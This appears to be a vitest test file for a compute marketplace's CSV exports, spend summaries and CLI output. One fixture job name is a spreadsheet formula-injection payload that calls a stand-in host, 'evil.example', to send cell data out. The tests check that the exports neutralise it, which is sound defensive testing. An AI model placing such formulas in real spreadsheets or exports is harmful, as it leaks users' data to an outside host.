// Tables for spreadsheets, and what was spent: what they say is what the books say.
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { JobId } from '@lumaris/protocol'
import { aShell } from '../../apps/cli/src/test-cli.ts'
import { startMarket } from '../start-market.ts'
import type { TestMarket } from '../start-market.ts'

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
let market: TestMarket
const made: JobId[] = []
beforeAll(async () => {
  market = await startMarket({ agents: 1 })
  for (const [name, template] of [['nightly', 'render'], ['nightly', undefined], [HOSTILE, 'render']] as const) {
    const { body } = await market.submit({ name, ...(template ? { template } : {}), command: ['fake:sleep', '150', ';', 'fake:print', 'x'] })
    await market.ended(body.id)
    made.push(body.id)
  }
})
afterAll(async () => { await market?.stop() })
const micros = (text: string): bigint => BigInt(text.replace('.', ''))

test('jobs as CSV: all of them, exact sums, and no formula', async () => {
  const { status, headers, body } = await market.call(market.buyer, 'GET', '/v1/exports/jobs')
  expect([status, headers.get('content-type'), headers.get('content-disposition')]).toEqual([200, 'text/csv; charset=utf-8; header=present', 'attachment; filename="lumaris-jobs.csv"'])
  const lines = (body as string).trimEnd().split('\r\n')
  expect(lines).toHaveLength(4)
  expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(made.toReversed())
  expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",completed,`)
  const costs = lines.slice(2).map((line) => micros(line.split(',')[11] ?? ''))
  expect(costs.every((one) => one > 0n)).toBe(true)
  expect(((await market.call(market.buyer, 'GET', '/v1/exports/jobs?state=failed')).body as string).trimEnd().split('\r\n')).toHaveLength(1)
})
test('movements as CSV: more than a page of them, and what the wallet says follows from them', async () => {
  for (let i = 0; i < 600; i++) await market.app.engine.act({ kind: 'topup', user: market.demo.buyer.id, amount: 1n, provider: 'demo', key: `many ${i}`, bodyHash: 'x' })
  const lines = ((await market.call(market.buyer, 'GET', '/v1/exports/entries')).body as string).trimEnd().split('\r\n').slice(1).map((line) => line.split(','))
  expect(lines.filter((cells) => cells[1] === 'topup')).toHaveLength(601)
  const mine = `buyer:${market.demo.buyer.id}:available`
  const left = lines.reduce((sum, cells) => sum + (cells[6] === mine ? micros(cells[7] ?? '') : 0n) - (cells[5] === mine ? micros(cells[7] ?? '') : 0n), 0n)
  expect(left.toString()).toBe((await market.call(market.buyer, 'GET', '/v1/wallet')).body.available)
})
test('what was spent, by day, by name and by template, is what the jobs cost', async () => {
  const { body } = await market.call(market.buyer, 'GET', '/v1/spend?days=2'), { spent } = (await market.call(market.buyer, 'GET', '/v1/wallet')).body
  expect(body.total).toBe(spent)
  expect(body.days.reduce((sum: bigint, one: { cost: string }) => sum + BigInt(one.cost), 0n).toString()).toBe(spent)
  expect(body.names.map((one: { name: string; jobs: number }) => [one.name, one.jobs]).toSorted()).toEqual([[HOSTILE, 1], ['nightly', 2]])
  expect(body.templates.map((one: { template: string | null; jobs: number }) => [one.template, one.jobs]).toSorted()).toEqual([[null, 1], ['render', 2]])
  for (const lines of [body.names, body.templates]) expect(lines.reduce((sum: bigint, one: { cost: string }) => sum + BigInt(one.cost), 0n).toString()).toBe(spent)
  const cost = async (id: JobId): Promise<bigint> => BigInt((await market.call(market.buyer, 'GET', `/v1/jobs/${id}`)).body.cost)
  expect(body.templates.find((one: { template: string | null }) => one.template === 'render').cost).toBe(((await cost(made[0] as JobId)) + (await cost(made[2] as JobId))).toString())
  expect(body.days.at(-1).day).toMatch(/^\d{4}-\d{2}-\d{2}$/)
  expect((await market.call(market.demo.sellers[0]?.key ?? '', 'GET', '/v1/spend')).body).toMatchObject({ total: '0', days: [], names: [] })
  expect((await market.call(market.buyer, 'GET', '/v1/spend?days=0')).body.code).toBe('invalid_request')
})
test('spend as CSV: a line for each day, name or template, the sum of each that of the bills, and no formula', async () => {
  const { spent } = (await market.call(market.buyer, 'GET', '/v1/wallet')).body
  for (const [by, count] of [['day', 2], ['name', 2], ['template', 2]] as const) {
    const { status, headers, body } = await market.call(market.buyer, 'GET', `/v1/exports/spend?days=2&by=${by}`), [head, ...lines] = (body as string).trimEnd().split('\r\n')
    expect([status, headers.get('content-disposition'), head, lines.length]).toEqual([200, `attachment; filename="lumaris-spent-by-${by}.csv"`, `${by === 'day' ? 'day (UTC)' : by},credits,jobs`, count])
    expect(lines.reduce((sum, line) => sum + micros(line.split(',').at(-2) ?? ''), 0n).toString()).toBe(spent)
    expect(lines.reduce((sum, line) => sum + Number(line.split(',').at(-1)), 0)).toBe(3)
  }
  expect((await market.call(market.buyer, 'GET', '/v1/exports/spend?by=name')).body).toContain(`\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`)
  expect((await market.call(market.buyer, 'GET', '/v1/exports/spend?by=hour')).body.code).toBe('invalid_request')
})
test('the same from the command line', async () => {
  const { cli } = aShell({ LUMARIS_URL: market.url, LUMARIS_TOKEN: market.buyer })
  expect((await cli(['jobs', '--csv'])).stdout.trimEnd().split('\r\n')).toHaveLength(4)
  const byTemplate = (await cli(['spend', '--by', 'template', '--days', '2'])).stdout
  expect(byTemplate).toMatch(/^render\t\d+\.\d+\t2$/m)
  expect(byTemplate).toMatch(/^\(none\)\t\d+\.\d+\t1$/m)
  expect((await cli(['spend', '--by', 'name'])).stdout).toMatch(/^nightly\t\d+\.\d+\t2$/m)
  expect((await cli(['spend', '--by', 'template', '--csv'])).stdout).toMatch(/^template,credits,jobs\r\n/)
  expect(JSON.parse((await cli(['spend', '--json'])).stdout)).toMatchObject({ templates: [{}, {}] })
  expect((await cli(['wallet', '--csv'])).stdout).toMatch(/^entry,kind,when,/)
})
